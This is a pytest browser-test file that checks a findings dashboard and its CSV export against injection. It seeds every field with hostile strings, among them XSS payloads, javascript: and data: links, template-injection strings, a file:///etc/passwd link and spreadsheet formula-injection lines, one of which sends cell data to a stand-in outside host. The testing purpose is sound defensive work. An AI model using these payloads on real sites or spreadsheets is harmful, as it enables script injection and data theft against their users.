"""What providers and people write is text wherever it is shown: it neither runs nor loads anything.

The visits go without the content policy, so that what it would stop is seen as well.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from data_access.backends import Backends
from data_access.findings import Change, Finding, Scan, Severity, Status
from tests.browser.conftest import cookies, free_port, serving
from tests.browser.findings_page import choose, kept, now
from tests.browser.visits import Visit, visiting
from tests.builders import embedded
from tests.findings import DAY, finding

ELSEWHERE = "https://elsewhere.invalid"
PAYLOADS = (
    "<script>window.ran=1</script>",
    '<img src=x onerror="window.ran=1">',
    '<svg onload="window.ran=1"><a xlink:href="javascript:window.ran=1"><text>x</text></a></svg>',
    "[a](javascript:window.ran=1) [b](JaVaScRiPt&colon;window.ran=1) <javascript:window.ran=1>",
    "[d](data:text/html,<script>opener.ran=1</script>) [v](vbscript:ran) [r]",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="javascript:window.ran=1">',
    f'<style>* {{ background: url({ELSEWHERE}/s) }}</style><p style="width: expression(window.ran=1)">',
    "&lt;img src=x onerror=window.ran=1&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
    "${window.ran=1} {{constructor.constructor('window.ran=1')()}} `${window.ran=1}` %{customdata}",
    f'![x](x"onerror="window.ran=1) ![out]({ELSEWHERE}/pixel.png) [![y](javascript:ran=1)](javascript:1)',
    "</textarea></title></template></style></script><script>window.ran=1</script>'\"><b id=broken>",
    f'=HYPERLINK("{ELSEWHERE}?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u2066 \x00<b onmouseover=window.ran=1>\ufeff",
)
LINKS = (
    "javascript:window.ran=1",
    " JaVaScRiPt:window.ran=1//https://x.example",
    "java\tscript:window.ran=1",
    "data:text/html,<script>opener.ran=1</script>",
    "vbscript:ran",
    'https://docs.example/"onmouseover="window.ran=1',
    "file:///etc/passwd",
    "//elsewhere.invalid/x",
    "http://[::1",
    "blob:https://docs.example/1",
    "https:javascript:window.ran=1",
    "\x01javascript:window.ran=1",
    "https://docs.example/<script>window.ran=1</script>",
    "view-source:https://docs.example",
)
BY_NAMES = ("Control", "Standard", "Service", "Account", "Region", "Resource type")
NOWHERE = "javascript:void(0)"
"""What Markdown makes of an address that is not one of a web page."""
FOUND = """NOWHERE => {
  const all = [...document.querySelectorAll('*')];
  const html = found => found.map(one => one.outerHTML);
  const own = source => !source || new URL(source, location).origin === location.origin;
  const links = [...document.querySelectorAll('a')]
    .map(link => link.getAttribute('href') || link.getAttribute('xlink:href'))
    .filter(link => link && link !== NOWHERE);
  return [
    ...(window.ran === undefined ? [] : ['it ran']),
    ...links.filter(link => !/^https?:$/.test(new URL(link, location).protocol)),
    ...html(all.filter(one => [...one.attributes].some(name => /^on|^srcdoc$/i.test(name.name)))),
    ...html(all.filter(one => one.matches('iframe, object, embed, base, template, svg a, #broken, img'))),
    ...html([...document.scripts].filter(one => !own(one.src) || one.textContent.includes('ran='))),
    ...html(all.filter(one => one.tagName === 'STYLE' && one.textContent.includes('elsewhere'))),
  ];
}"""


def hostile(number: int) -> Finding:
    """A finding with a payload in every text."""
    text = PAYLOADS[number]
    return finding(
        f"{number}{text}",
        now() - DAY,
        title=text,
        description=text,
        remediation=f"{text}\n\n[r]: javascript:window.ran=1",
        remediation_url=LINKS[number],
        severity=list(Severity)[number % 5],
        provider=text,
        control=text,
        service=text,
        standards=(text,),
        account=text,
        region=text,
        resource_type=text,
        resource_id=text,
        flags=(text,),
    )


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Backends:
    backends = embedded(tmp_path_factory.mktemp("hostile"), port=free_port())
    findings = [hostile(number) for number in range(len(PAYLOADS))]
    at = now()
    for number, (text, found) in enumerate(zip(PAYLOADS, findings, strict=True)):
        backends.findings.store(Scan(f"scan-{number}", text, at - DAY + number, text), findings[: number + 1])
        backends.findings.change({found.key: 0}, Change(assignee=text, note=text), text, at)
        if number % 2:
            muted = Change(Status.SUPPRESSED, reason=text, until=at + DAY)
            backends.findings.change({found.key: 1}, muted, text, at + 1)
    return backends


@pytest.fixture(scope="module")
def hostile_app(store: Backends) -> Iterator[str]:
    with serving(store) as address:
        yield address


@pytest.fixture(scope="module")
def state(chromium: Any, hostile_app: str, store: Backends) -> Any:
    return cookies(chromium, store)


@pytest.fixture(scope="module")
def opened(chromium: Any, hostile_app: str, state: Any) -> Iterator[Visit]:
    """The page with all findings, without a content policy."""
    with visiting(chromium, hostile_app, state, bypass_csp=True) as visit:
        visit.page.on("dialog", lambda dialog: visit.problems.append(f"dialog: {dialog.message}"))
        visit.page.set_default_timeout(15_000)
        yield visit


def harmless(visit: Visit) -> None:
    """Nothing ran, nothing of a payload became an element, and nothing was asked for elsewhere."""
    problems, visit.problems = visit.problems, []
    assert visit.page.evaluate(FOUND, NOWHERE) == []
    assert problems == []


def as_text(text: str) -> str:
    """A text as an element's content has it, its white space as one blank."""
    return " ".join(text.split())


def test_the_list_and_its_explanations(opened: Visit, store: Backends) -> None:
    opened.open("/findings?state=all&limit=50")
    harmless(opened)
    titles = opened.page.locator(".sg-finding-title").all_text_contents()
    assert sorted(titles) == sorted(PAYLOADS)
    for tip in opened.page.locator("[data-sg-tip]").all():
        tip.focus()
        opened.page.get_by_role("tooltip").wait_for()
    for cell in opened.page.locator("#findings-table tbody tr:nth-child(2) [title]").all():
        cell.hover()
    harmless(opened)


def test_groups_by_every_field(opened: Visit, store: Backends) -> None:
    opened.open("/findings?state=all")
    for name in BY_NAMES:
        choose(opened.page, "Group by", name)
        table = opened.page.get_by_role("table", name=f"Findings by {name.lower()}")
        table.wait_for()
        shown = table.locator("tbody th").all_text_contents()
        assert len(shown) == 10
        assert set(shown) < set(PAYLOADS)
        harmless(opened)
    opened.page.locator(".sg-groups tbody a").first.hover()
    opened.page.locator(".sg-groups tbody a").first.click()
    opened.page.locator(".sg-chip").first.wait_for()
    opened.settle()
    chip = opened.page.locator(".sg-chip-text").first.text_content()
    assert chip.removeprefix("Resource type: ") in PAYLOADS
    harmless(opened)


def test_choices_scans_and_the_form_for_many(opened: Visit, store: Backends) -> None:
    opened.open("/findings?state=all")
    page = opened.page
    page.get_by_role("button", name="Filters", exact=True).click()
    menu = page.locator(".sg-filters-menu")
    for name in ("Account", "Region", "Standard", "Assigned to", "Provider"):
        menu.get_by_role("textbox", name=name, exact=True).click()
        options = menu.get_by_role("listbox").get_by_role("option")
        options.nth(len(PAYLOADS) - 1).wait_for(state="attached")
        assert {as_text(one) for one in options.all_text_contents()} >= {as_text(one) for one in PAYLOADS}
        harmless(opened)
        page.keyboard.press("Tab")
    page.get_by_role("heading", name="Findings", exact=True).click()
    menu.wait_for(state="hidden")
    opened.settle()
    page.get_by_role("textbox", name="Earlier", exact=True).click()
    page.get_by_role("option").filter(has_text="onerror", visible=True).first.wait_for()
    harmless(opened)
    page.keyboard.press("Escape")
    page.locator("#work-open").click()
    form = page.get_by_role("dialog", name="Change findings")
    form.get_by_role("textbox", name="Assign to").click()
    form.get_by_role("option").filter(has_text="onerror", visible=True).first.wait_for()
    harmless(opened)
    form.get_by_role("button", name="Close").click()
    form.wait_for(state="hidden")


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_the_drawer(opened: Visit, store: Backends, number: int) -> None:
    text, key = PAYLOADS[number], hostile_key(store, number)
    page = opened.page
    if "state=all" not in opened.query:
        opened.open("/findings?state=all")
    page.evaluate("key => dash_clientside.set_props('url', {search: `?state=all&finding=${key}`})", key)
    found = page.get_by_role("dialog", name="Finding", exact=True)
    found.locator(".sg-finding-head").filter(has_text=as_text(text.split("\n")[0])[:20]).wait_for()
    opened.settle()
    found.locator("summary").click()
    harmless(opened)
    assert found.locator(".sg-finding-head").text_content() == text
    assert found.locator(".sg-finding-text").first.text_content().removeprefix("Note: ") == text
    history = "".join(found.locator(".sg-finding-history li").all_text_contents())
    assert f"Note: – → {text}" in history
    if number % 2:
        assert f"Reason: – → {text}" in history
    assert all(url.startswith(("http://", "https://")) for url in followed(opened, found))
    harmless(opened)


def followed(visit: Visit, area: Any) -> list[str]:
    """The addresses that the links of an area lead to in new windows; none is asked for."""
    asked: list[str] = []
    windows: list[Any] = []

    def note(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    def opens(window: Any) -> None:
        windows.append(window)

    context = visit.page.context
    context.on("page", opens)
    context.route(re.compile("."), note)
    for link in area.locator("a[target=_blank]").all():
        if (link.get_attribute("href") or "").startswith("http"):
            with context.expect_page():
                link.click()
        else:
            link.click()
    visit.settle()
    context.unroute_all()
    context.remove_listener("page", opens)
    assert len(windows) == len(asked), "a window that asks for nothing"
    for window in windows:
        window.close()
    return asked


def hostile_key(store: Backends, number: int) -> str:
    """The key of the finding with a payload."""
    return next(row.key for row in kept(store) if row.title == PAYLOADS[number])


def test_the_address(opened: Visit) -> None:
    for names in ("q finding account by", "state", "outcome", "from"):
        query = "&".join(f"{name}={quote(PAYLOADS[1])}" for name in names.split())
        opened.page.goto(f"{opened.base}/findings?{query}")
        opened.page.wait_for_selector("#page .sg-state")
        opened.settle()
        assert PAYLOADS[1] in opened.page.inner_text("#page")
        harmless(opened)


def test_the_file_is_taken_and_holds_no_formula(opened: Visit) -> None:
    answer = opened.page.request.get(f"{opened.base}/csv/findings?state=all")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(answer.text(), newline="")))
    assert sorted(row["title"].removeprefix("'") for row in rows) == sorted(PAYLOADS)
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
